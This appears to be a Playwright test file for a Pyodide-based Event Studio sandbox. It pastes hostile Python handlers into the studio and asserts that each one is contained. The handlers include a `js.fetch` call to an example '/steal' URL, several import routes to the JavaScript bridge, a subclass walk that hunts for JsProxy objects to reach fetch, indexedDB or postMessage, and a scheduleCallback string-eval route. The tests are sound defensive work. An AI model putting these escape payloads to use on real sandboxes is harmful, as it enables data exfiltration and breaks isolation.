import { expect, test } from '../fixtures';
import type { StudioPage } from '../pages/studio-page';

// Hostile handlers pasted into the studio as a user would, in Chromium: each is contained with a
// clear message, and a normal run works right after. (The full list runs in Node:
// packages/runtime/src/sandbox/hostile.test.ts.) The fixture also fails any test whose page asked
// anything of another origin.

const handler = (imports: string, ...body: string[]) =>
  `from jit.commons.utils.logger import log\n${imports}\n\ndef handleOrderApproval(eventOutData):\n${body
    .map((line) => `    ${line}`)
    .join('\n')}\n`;

async function runsNormallyAfterwards(studio: StudioPage): Promise<void> {
  await studio.replaceCode(handler('', 'log.info("a normal run works")'));
  await studio.run();
  await expect(studio.runResult.getByRole('list', { name: 'Logs' })).toContainText('a normal run works');
}

test.describe('the sandbox holds against hostile handlers', () => {
  // Each case waits for Python's cold start and often a worker restart: generous on a loaded machine.
  test.describe.configure({ timeout: 180_000 });

  test.beforeEach(async ({ studio }) => {
    await studio.selectEvent(/Order Approval Event/);
  });

  test('`import js` to fetch is refused', async ({ studio }) => {
    await studio.replaceCode(handler('import js', 'js.fetch("https://example.com/steal")'));
    await studio.run();
    await expect(
      studio.runResult.getByText(
        "ModuleNotFoundError: No module named 'js' (not available in the Event Studio sandbox)",
        {
          exact: true,
        },
      ),
    ).toBeVisible();
    await runsNormallyAfterwards(studio);
  });

  test('every import route to the JS bridge gives nothing', async ({ studio }) => {
    await studio.replaceCode(
      handler(
        'import importlib, sys, _imp\nfrom importlib.machinery import ModuleSpec',
        'tries = {',
        '    "pyodide": lambda: importlib.import_module("pyodide.ffi"),',
        '    "__import__": lambda: __import__("pyodide_js"),',
        '    "core": lambda: _imp.create_builtin(ModuleSpec("_pyodide_core", None, origin="built-in")),',
        '    "sys.modules": lambda: sys.modules["js"],',
        '}',
        'for name, route in tries.items():',
        '    try:',
        '        route()',
        '        log.info("%s: OPEN", name)',
        '    except Exception as e:',
        '        log.info("%s: %s", name, type(e).__name__)',
      ),
    );
    await studio.run();
    const logs = studio.runResult.getByRole('list', { name: 'Logs' });
    await expect(logs).toContainText('pyodide: ModuleNotFoundError');
    await expect(logs).toContainText('__import__: ModuleNotFoundError');
    await expect(logs).toContainText('core: ModuleNotFoundError');
    await expect(logs).toContainText('sys.modules: KeyError');
    await expect(logs).not.toContainText('OPEN');
    await runsNormallyAfterwards(studio);
  });

  test('JS objects Python can reach lead to no fetch, storage or postMessage', async ({ studio }) => {
    // Pyodide's own modules keep JS functions in their globals; the worker is the boundary.
    await studio.replaceCode(
      handler(
        '',
        'seen, proxies, escaped, todo = set(), [], [], [object]',
        'while todo:',
        '    for s in type.__subclasses__(todo.pop()):',
        '        if s not in seen: seen.add(s); todo.append(s)',
        'for c in seen:',
        '    for v in list(vars(c).values()):',
        '        for x in list(getattr(v, "__globals__", {}).values()):',
        '            if type(x).__name__.startswith("JsProxy") or "JsCallable" in type(x).__name__: proxies.append(x)',
        'for p in proxies:',
        '    for route in (lambda: p.constructor("return fetch")(), lambda: p.constructor.constructor("return indexedDB")(),',
        '                  lambda: p.call.constructor("return postMessage")()):',
        '        try: escaped.append(repr(route()))',
        '        except Exception: pass',
        'log.info("reachable JS objects: %s; escapes: %s", len(proxies) > 0, escaped)',
      ),
    );
    await studio.run();
    await expect(studio.runResult.getByRole('list', { name: 'Logs' })).toContainText(
      'reachable JS objects: True; escapes: []',
    );
    await runsNormallyAfterwards(studio);
  });

  test("no JavaScript from a string: Pyodide's scheduleCallback refuses it, called directly, by call and by apply", async ({
    studio,
    page,
  }) => {
    // The route the adversarial pass used: Pyodide's event loop keeps scheduleCallback, which ends in
    // setTimeout(string); the string would import() a probe URL. It is the one JS function Python can
    // reach here; Function.prototype's call and apply are two more routes to the same timer.
    const probes: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('/probe-')) probes.push(request.url());
    });
    await studio.replaceCode(
      handler(
        '',
        'seen, todo = set(), [object]',
        'while todo:',
        '    for s in type.__subclasses__(todo.pop()):',
        '        if s not in seen: seen.add(s); todo.append(s)',
        'found = {k: x for c in seen for v in list(vars(c).values()) for k, x in list(getattr(v, "__globals__", {}).items()) if type(x).__name__.startswith("Js")}',
        'cb, code, out = found["scheduleCallback"], "import(\'/probe-\' + typeof fetch)", []',
        'for name, route in {"scheduleCallback": lambda: cb(code, 1), "call": lambda: cb.call(None, code, 1), "apply": lambda: cb.apply(None, [code, 1])}.items():',
        '    try: route(); out.append(name + ": scheduled")',
        '    except Exception as e: out.append(name + (": refused" if "not available in the Event Studio sandbox" in str(e) else ": " + type(e).__name__))',
        'log.info("routes: %s", ", ".join(out))',
      ),
    );
    await studio.run();
    const logs = studio.runResult.getByRole('list', { name: 'Logs' });
    await expect(logs).toContainText('scheduleCallback: refused, call: refused, apply: refused');
    await expect(logs).not.toContainText('scheduled');
    await runsNormallyAfterwards(studio);
    expect(probes).toEqual([]);
  });

  test('`while True: pass` stops on Stop, and the editor stays responsive meanwhile', async ({
    studio,
    page,
  }) => {
    await studio.replaceCode(handler('', 'while True:', '    pass'));
    await studio.testPanel.getByRole('button', { name: 'Run', exact: true }).click();
    const stop = studio.testPanel.getByRole('button', { name: 'Stop' });
    await expect(stop).toBeVisible();
    // Typing into Monaco while Python spins in its worker.
    await (await studio.openEditor()).click();
    await page.keyboard.press('ControlOrMeta+End');
    await page.keyboard.type('\n# still typing');
    await expect(studio.code()).toContainText('# still typing');
    // On a slow machine the 5 s limit can stop the run before the click lands: both end the
    // same way, which is what is asserted below, so a click on a vanished button is let go.
    await stop.click({ timeout: 2_000 }).catch(() => undefined);
    await expect(studio.runResult.getByText(/^Timeout: stopped after \d+(\.\d)? s$/)).toBeVisible();
    await runsNormallyAfterwards(studio);
  });

  test('a long C-level call is stopped by the time limit and the standby takes over', async ({ studio }) => {
    await studio.replaceCode(handler('', 'return sum(range(10**12))'));
    await studio.testPanel.getByRole('button', { name: 'Run', exact: true }).click();
    // The default limit is 5 s; an interrupt cannot stop C code, so the worker is terminated.
    await expect(studio.runResult.getByText('Timeout: stopped after 5 s', { exact: true })).toBeVisible({
      timeout: 60_000,
    });
    await runsNormallyAfterwards(studio);
  });
});
